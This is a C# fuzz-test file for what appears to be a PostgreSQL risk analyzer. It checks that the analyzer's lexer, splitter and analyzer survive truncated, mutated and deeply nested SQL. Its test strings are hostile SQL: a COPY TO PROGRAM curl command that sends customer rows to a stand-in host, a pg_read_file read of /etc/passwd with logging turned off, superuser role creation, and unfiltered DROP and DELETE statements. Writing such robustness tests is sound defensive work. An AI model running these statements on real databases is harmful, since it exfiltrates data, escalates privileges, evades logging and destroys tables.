using System.Diagnostics;
using System.Text;
using Vigil.Analysis.Static.Postgres;

namespace Vigil.Tests.Analysis.Static.Postgres;

/// <summary>Every-prefix and mutation fuzz tests: the lexer, splitter, analyzer and fingerprint never throw or hang.</summary>
public sealed class PostgresRobustnessTests
{
    private static readonly string[] TrickyScripts =
    [
        "DO $fn$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t) || ';'; PERFORM $$x$$; END $fn$; SELECT 1",
        "SELECT E'\\'', U&'d\\0061t', B'01', X'1F', $1, 1.5e-3, \"q\"\"i\" FROM t /* a /* b */ c */ -- d\n;",
        "WITH RECURSIVE d AS (DELETE FROM users WHERE true RETURNING *), e(x) AS NOT MATERIALIZED (SELECT 1) SELECT * FROM d, e",
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE accounts SET balance = 0 WHERE 1=1 OR id = 5",
        "COPY (SELECT * FROM customers WHERE note LIKE '%x%') TO PROGRAM 'curl -d @- http://x'",
        "CREATE ROLE r WITH LOGIN SUPERUSER PASSWORD 'p'; GRANT ALL ON ALL TABLES IN SCHEMA s TO PUBLIC;",
        "ALTER TABLE t DROP COLUMN c, ALTER COLUMN d DROP DEFAULT; SET LOCAL session_replication_role = replica",
        "SELECT * FROM (SELECT email FROM users UNION SELECT email FROM customers) u WHERE email ILIKE '%@x.com' FOR UPDATE",
        "DO 'BEGIN EXECUTE ''DELETE FROM t''; END'; DECLARE c CURSOR FOR SELECT * FROM users; PREPARE p AS DELETE FROM t",
        "SELECT set_config('log_statement', 'none', false), pg_read_file('/etc/passwd'), dblink('h', 'q') FROM pg_authid",
        "SELECT U&\"!0070g_sleep\" UESCAPE '!' (1), 'a\\', ' ; DROP TABLE t; -- ', N'x\\'; SET NAMES 'SJ'\n'IS'; SET U&\"a\\+00",
    ];

    [Fact]
    public void Every_prefix_of_tricky_scripts_is_handled()
    {
        foreach (var script in TrickyScripts)
        {
            for (var length = 0; length <= script.Length; length++)
            {
                Exercise(script[..length]);
            }
        }
    }

    [Fact]
    public void Every_suffix_of_tricky_scripts_is_handled()
    {
        foreach (var script in TrickyScripts)
        {
            for (var start = 0; start <= script.Length; start++)
            {
                Exercise(script[start..]);
            }
        }
    }

    [Fact]
    public void Mutated_corpus_statements_never_throw_or_hang()
    {
        var seeds = CorpusAccuracyTests.Load().Where(r => r.Type == "postgres").Select(r => r.Input).Concat(TrickyScripts).ToArray();
        const string alphabet = "'\"$;()-/*\\EUX&B.:=<>|% \n\t0123456789abcdefghijklmnopqrstuvwxyzDROPTABLEWHERE\u00e9\u0000\ud800";
        var random = new Random(20240611);
        var watch = Stopwatch.StartNew();
        for (var iteration = 0; iteration < 20_000; iteration++)
        {
            var text = new StringBuilder(seeds[random.Next(seeds.Length)]);
            var mutations = 1 + random.Next(6);
            for (var m = 0; m < mutations; m++)
            {
                var at = text.Length == 0 ? 0 : random.Next(text.Length);
                switch (random.Next(4))
                {
                    case 0:
                        text.Insert(at, alphabet[random.Next(alphabet.Length)]);
                        break;
                    case 1 when text.Length > 0:
                        text.Remove(at, Math.Min(text.Length - at, 1 + random.Next(4)));
                        break;
                    case 2 when text.Length > 0:
                        text[at] = alphabet[random.Next(alphabet.Length)];
                        break;
                    default:
                        var length = Math.Min(text.Length - at, random.Next(12));
                        text.Insert(at, text.ToString(at, length));
                        break;
                }
            }

            Exercise(text.ToString());
        }

        watch.Elapsed.Should().BeLessThan(TimeSpan.FromMinutes(1), "20,000 analyses must not hang");
    }

    [Theory]
    [InlineData("DO $$")]
    [InlineData("DO $$ BEGIN EXECUTE")]
    [InlineData("DO $$ BEGIN EXECUTE '' ; END $$")]
    [InlineData("DO '")]
    [InlineData("WITH")]
    [InlineData("WITH x AS (")]
    [InlineData("EXPLAIN (")]
    [InlineData("EXPLAIN ANALYZE")]
    [InlineData("COPY (")]
    [InlineData("SELECT * FROM")]
    [InlineData("DELETE FROM t WHERE")]
    [InlineData("DELETE FROM t WHERE (")]
    [InlineData("UPDATE")]
    [InlineData("GRANT")]
    [InlineData("SET")]
    [InlineData("ALTER")]
    [InlineData("CREATE")]
    [InlineData("SELECT set_config(")]
    [InlineData("E'\\")]
    [InlineData("U&")]
    [InlineData("$a")]
    [InlineData("0x")]
    [InlineData("\ud800")]
    [InlineData("SELECT ))) ; ((( ;")]
    [InlineData("ALTER TABLE t DROP COLUMN c, ALTER COLUMN d DROP DEFAULT; SET")] // found by the prefix test: read past the statement
    public void Regression_inputs_do_not_throw(string sql) => Exercise(sql);

    [Fact]
    public void Deep_nesting_and_large_inputs_do_not_overflow_or_hang()
    {
        var deep = new string('(', 100_000) + "SELECT 1" + new string(')', 100_000);
        Exercise(deep);
        Exercise(new string('(', 100_000));
        Exercise("DELETE FROM t WHERE " + new string('(', 50_000) + "1=1" + new string(')', 50_000));
        Exercise(string.Concat(Enumerable.Repeat("SELECT * FROM orders WHERE id = 1; ", 20_000)));
        Exercise("DO $$" + string.Concat(Enumerable.Repeat("BEGIN EXECUTE 'x'; ", 5_000)) + "$$");
        PostgresAnalyzer.Analyze(deep).Level.Should().NotBe(Vigil.Analysis.RiskLevel.High);
    }

    private static void Exercise(string sql)
    {
        var act = () =>
        {
            foreach (var options in (PgLexerOptions[])[PgLexerOptions.Standard, PgLexerOptions.BackslashEscapes])
            {
                PgLexer.Tokenize(sql, includeComments: true, options);
                PgStatementSplitter.Split(sql, options);
                PgStatementSplitter.SplitText(sql, options);
                var verdict = PostgresAnalyzer.Analyze(sql, options);
                PostgresVerdictAssertions.ShouldBeWellFormed(verdict, sql);
                PostgresFingerprint.Compute(sql, options);
            }
        };
        act.Should().NotThrow("input: {0}", sql);
    }
}
